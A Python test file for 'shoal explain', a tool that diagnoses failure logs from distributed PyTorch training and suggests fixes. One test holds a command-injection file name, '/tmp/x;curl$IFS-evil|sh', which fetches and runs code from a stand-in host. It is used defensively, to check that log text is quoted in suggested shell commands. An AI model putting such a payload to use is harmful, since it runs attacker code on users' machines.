"""`shoal explain`: every stored log of a real failure is explained by its own cause only."""

from __future__ import annotations

import ast
import io
import re
import tracemalloc
from collections.abc import Iterable
from pathlib import Path

import pytest

from shoal.cli.doctor import as_lines
from shoal.explain.explain import (
    Findings,
    explain,
    explain_file,
    explain_stream,
    explain_text,
    merge,
    true_port,
    with_true_ports,
)
from shoal.explain.pattern import CauseOrder, fill_in
from shoal.explain.patterns import PATTERNS
from shoal.tools.doctor import checks
from shoal.tools.doctor.checks import CHECK_MEANINGS
from tests.support.failures.catalogue import DOCUMENT, renewed
from tests.support.failures.expected import EXPECTED
from tests.support.failures.produce import MOST_LINES
from tests.support.failures.registry import FAILURES
from tests.support.paths import FAILURE_LOGS, ROOT

FOLDER = FAILURE_LOGS
LOGS = {path.name.removesuffix(".log"): path for path in sorted(FOLDER.glob("*.log"))}
HEALTHY = [name for name in LOGS if name.startswith("healthy+")]
BY_ID = {pattern.id: pattern for pattern in PATTERNS}


def id_of(name: str) -> str:
    return name.partition("+")[0]


def ids(findings: Findings) -> list[str]:
    return [explanation.id for explanation in findings.explanations]


@pytest.mark.parametrize("name", EXPECTED)
def test_a_real_failure_is_explained_by_its_cause(name: str) -> None:
    text = LOGS[name].read_text(encoding="utf-8")
    findings = explain_text(text)
    assert findings.best is not None
    assert findings.best.id == id_of(name)
    assert EXPECTED[name].words in findings.best.evidence.text
    assert sorted(ids(findings)[1:]) == sorted(EXPECTED[name].also)
    line = text.splitlines()[findings.best.evidence.line - 1].strip()
    assert line.startswith(re.sub(r" \(really port \d+\)", "", findings.best.evidence.text).rstrip("…"))


@pytest.mark.parametrize("name", EXPECTED)
def test_no_pattern_fires_on_another_failure(name: str) -> None:
    """Before filtering: other patterns that match are listed as also true, or are a less exact form of the cause."""
    lines = LOGS[name].read_text(encoding="utf-8").splitlines()
    fires = {
        pattern.id
        for pattern in PATTERNS
        for line in lines
        if any(sign in line for sign in pattern.signs) and pattern.match(line) is not None
    }
    allowed = {id_of(name), *BY_ID[id_of(name)].covers, *EXPECTED[name].also}
    allowed |= {other for also in EXPECTED[name].also for other in BY_ID[also].covers}
    assert fires <= allowed


def test_every_pattern_has_a_log_and_every_log_a_pattern() -> None:
    assert {id_of(name) for name in EXPECTED} == BY_ID.keys()
    assert len(BY_ID) == len(PATTERNS) >= 25
    assert set(LOGS) == {*EXPECTED, *HEALTHY, "unknown"}
    assert set(LOGS) == set(FAILURES)
    assert all(len(path.read_text(encoding="utf-8").splitlines()) <= MOST_LINES for path in LOGS.values())


def test_patterns_refer_to_existing_checks_and_patterns() -> None:
    for pattern in PATTERNS:
        assert pattern.check in ("", *CHECK_MEANINGS), pattern.id
        assert set(pattern.covers) | set(pattern.only_with) <= BY_ID.keys(), pattern.id
        text = fill_in(pattern.cause + pattern.fix, {})
        assert "GLOO_PORT_RANGE" not in text or "does not exist" in text


def test_the_list_of_checks_is_complete() -> None:
    """Found by reading the checks: no other string in them looks like an id."""
    trees = [ast.parse(path.read_text(encoding="utf-8")) for path in Path(checks.__file__).parent.glob("*.py")]
    words = [node.value for tree in trees for node in ast.walk(tree) if isinstance(node, ast.Constant)]
    assert {word for word in words if re.fullmatch(r"[a-z]+\.[a-z-]+", str(word))} == CHECK_MEANINGS.keys()
    table = ROOT / "docs" / "doctor.md"
    assert {
        name for name in CHECK_MEANINGS if f"| `{name}` | {CHECK_MEANINGS[name]} |" in table.read_text()
    } == CHECK_MEANINGS.keys()


@pytest.mark.parametrize("name", [*HEALTHY, "prose"])
def test_healthy_logs_have_no_explanation(name: str) -> None:
    path = LOGS.get(name, FOLDER / "prose.txt")
    assert ids(explain_file(path)) == []


def test_an_unknown_error_is_shown_before_its_consequences() -> None:
    findings = explain_file(LOGS["unknown"])
    assert ids(findings) == ["torchrun.child-failed", "gloo.peer-closed"]
    assert not findings.is_explained
    assert findings.unknown is not None
    assert findings.unknown.text == "[rank1]: ValueError: the answer is 42, not 41"


def test_the_cause_comes_first_in_any_order_of_the_log() -> None:
    """The error of one rank is above the traceback of the rank that failed."""
    text = LOGS["gloo.peer-closed"].read_text() + LOGS["ddp.unused-parameters"].read_text()
    assert ids(explain_text(text)) == ["ddp.unused-parameters", "gloo.peer-closed"]
    parts = [explain_text(LOGS[name].read_text()) for name in ("gloo.peer-closed", "ddp.unused-parameters")]
    assert ids(merge(parts)) == ["ddp.unused-parameters", "gloo.peer-closed"]


def test_a_warning_without_consequence_explains_nothing() -> None:
    """A name was not resolved at first, in a training that failed for another reason."""
    warning = LOGS["store.name"].read_text().splitlines()[0]
    assert ids(explain_text(f"{warning}\n")) == []
    assert ids(explain_text(f"{warning}\n{LOGS['disk.full'].read_text()}")) == ["disk.full"]


def test_a_source_line_in_a_traceback_is_not_a_message() -> None:
    lines = ('  File "train.py", line 3, in check', "    raise OSError('No space left on device')")
    assert ids(explain_text("\n".join(lines))) == []
    assert ids(explain_text("\n".join((*lines, "OSError: No space left on device")))) == ["disk.full"]


@pytest.mark.parametrize("before", ["[rank1]: ", "[1] ", "\x1b[31m", "2026-01-31 12:00:00 node1 | ", "[default0]:"])
def test_prefixes_of_launchers_and_loggers_are_ignored(before: str) -> None:
    """Launchers and loggers add such prefixes."""
    for name in ("disk.full", "memory.allocation", "gloo.timeout", "ssh.denied", "torchrun.join-timeout"):
        text = "\n".join(before + line for line in LOGS[name].read_text().splitlines())
        assert ids(explain_text(text))[0] == name


@pytest.mark.parametrize(
    ("text", "id_"),
    [
        ("RuntimeError: [../third_party/gloo/gloo/transport/tcp/pair.cc:799] connect [127.0.1.1]:45963: "
         "Connection refused", "gloo.loopback"),
        ("RuntimeError: [../third_party/gloo/gloo/transport/tcp/pair.cc:799] connect [10.0.0.7]:45963: "
         "Connection refused", "gloo.connect-refused"),
        ("[rank1]: RuntimeError: Gloo connectFullMesh failed with [../third_party/gloo/gloo/transport/tcp/pair.cc:144] "
         "no error", "gloo.no-error"),
        ("[E ProcessGroupNCCL.cpp:737] [Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=469508, "
         "OpType=ALLREDUCE, Timeout(ms)=1800000) ran for 1802212 milliseconds before timing out.", "cuda.watchdog"),
        ("ncclInternalError: Internal check failed.\nLast error:\nBootstrap : no socket interface found",
         "cuda.nccl-interface"),
        ("AttributeError: module 'torch._C' has no attribute '_cuda_getDeviceCount'", "cuda.missing"),
        ("slurmstepd: error: Detected 1 oom-kill event(s) in step 3495064.0 cgroup. Some of your processes may have "
         "been killed by the cgroup out-of-memory handler.", "memory.slurm"),
        ("torch._dynamo.exc.BackendCompilerFailed: debug_wrapper raised OSError: /tmp/torchinductor_me/wg/cw.so: file "
         "too short", "train.short-library"),
        ("Bus error (core dumped)", "system.bus-error"),
        ("RuntimeError: DataLoader worker (pid 71) is killed by signal: Bus error. It is possible that dataloader's "
         "workers are out of shared memory.", "data.shared-memory"),
    ],
)  # fmt: skip
def test_messages_of_other_versions_are_recognized(text: str, id_: str) -> None:
    best = explain_text(text).best
    assert best is not None
    assert best.id == id_
    assert not re.search(r"\{\w+\}", best.cause + best.fix)


@pytest.mark.parametrize(
    "text",
    ["He was Killed in the last chapter", "3 processes Killed, 2 alive", "no Bus error was seen", "all Killed off"],
)
def test_a_word_in_a_sentence_is_not_a_message(text: str) -> None:
    assert ids(explain_text(text)) == []


def test_an_error_of_shoal_keeps_its_own_cause_and_fix() -> None:
    own = explain_file(LOGS["shoal.different"]).best
    assert own is not None
    assert own.fix == "bring all machines to the same versions: shoal setup HOSTS"
    assert own.check == "sameness.torch"
    other = explain_text("[0] error: it is broken\n[0]   why:  it was dropped\n[0]   next: buy another\n").best
    assert other is not None
    assert (other.id, other.cause, other.fix) == ("shoal.error", "it was dropped", "buy another")
    assert ids(explain_text("error: of another program\nand its next line\n")) == []


@pytest.mark.parametrize("text", ["", "\n\n\n", "all is well\n", "\0\0\xff"])
def test_a_log_without_errors_has_no_findings(text: str) -> None:
    assert explain_text(text) == Findings()


def test_an_unknown_error_is_shown_unchanged() -> None:
    findings = explain_text("step 1\nstep 2\nmake: *** [all] Error 2\nmore\n")
    assert ids(findings) == []
    assert findings.unknown is not None
    assert (findings.unknown.line, findings.unknown.text) == (3, "make: *** [all] Error 2")


def numbered(lines: Iterable[str]) -> Iterable[tuple[int, str]]:
    return enumerate(lines, 1)


def test_a_long_log_is_read_with_little_memory() -> None:
    """10 MB of steps, the failure at the very end; then the same failure a thousand times."""
    steps = (f"step {step} loss 3.14159 and more words to fill the line" for step in range(200_000))
    last = LOGS["disk.full"].read_text().splitlines()
    tracemalloc.start()
    findings = explain(numbered(line for part in (steps, last) for line in part))
    repeated = explain(numbered(line for _ in range(1000) for line in last))
    peak_bytes = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert findings.best is not None
    assert (findings.best.id, findings.best.evidence.line) == ("disk.full", 200_000 + len(last))
    assert repeated.best is not None
    assert repeated.best.count == 1000
    assert peak_bytes < 2 << 20


def test_very_long_lines_and_binary_bytes_are_handled() -> None:
    junk = bytes(range(256)) * 4000
    findings = explain_stream(
        io.BytesIO(junk.replace(b"\n", b"") + b"\nOSError: [Errno 28] No space left on device\xff")
    )
    assert ids(findings) == ["disk.full"]
    assert findings.best is not None
    assert findings.best.evidence.line == 2
    assert len(findings.best.evidence.text) < 600


def test_gloo_swaps_the_bytes_of_its_ports() -> None:
    assert true_port(14215) == 34615
    assert all(true_port(true_port(port)) == port for port in range(65536))
    line = "[/a/gloo/transport/tcp/pair.cc:537] Read error [10.77.0.1]:14215: Connection reset by peer"
    assert "[10.77.0.1]:14215 (really port 34615): Connection" in with_true_ports(line)
    other_line = "[c10d] The client socket has timed out, remote=[::ffff:10.77.0.1]:29500"
    assert with_true_ports(other_line) == other_line


def test_the_order_runs_from_the_cause_to_harmless_messages() -> None:
    assert CauseOrder.CAUSE < CauseOrder.LIKELY < CauseOrder.REPORT < CauseOrder.CONSEQUENCE < CauseOrder.HARMLESS


def test_the_documentation_lists_every_explanation_and_check() -> None:
    assert DOCUMENT.read_text(encoding="utf-8") == renewed(), "renew it: python -m tests.support.failures.catalogue"


def test_text_from_a_log_is_quoted_in_commands() -> None:
    """The log may come from another machine, and users paste the advice into a shell."""
    line = "python: can't open file '/tmp/x;curl$IFS-evil|sh': [Errno 2] No such file or directory"
    [explanation] = explain_text(line).explanations
    assert ";curl" not in explanation.fix.replace("'/tmp/x;curl$IFS-evil|sh'", "")
    assert "'/tmp/x;curl$IFS-evil|sh'" in explanation.fix


@pytest.mark.parametrize(
    ("log", "command"),
    [("ZeroDivisionError: division by zero\n", "shoal doctor"), ("step 1 loss 4.2\n", "shoal explain RUN")],
)
def test_a_log_without_a_known_error_has_a_next_command(log: str, command: str) -> None:
    text = "Traceback (most recent call last):\n" + log if "Error" in log else log
    *_, last = as_lines(explain_text(text))
    assert last.startswith("  next:   ")
    assert command in last
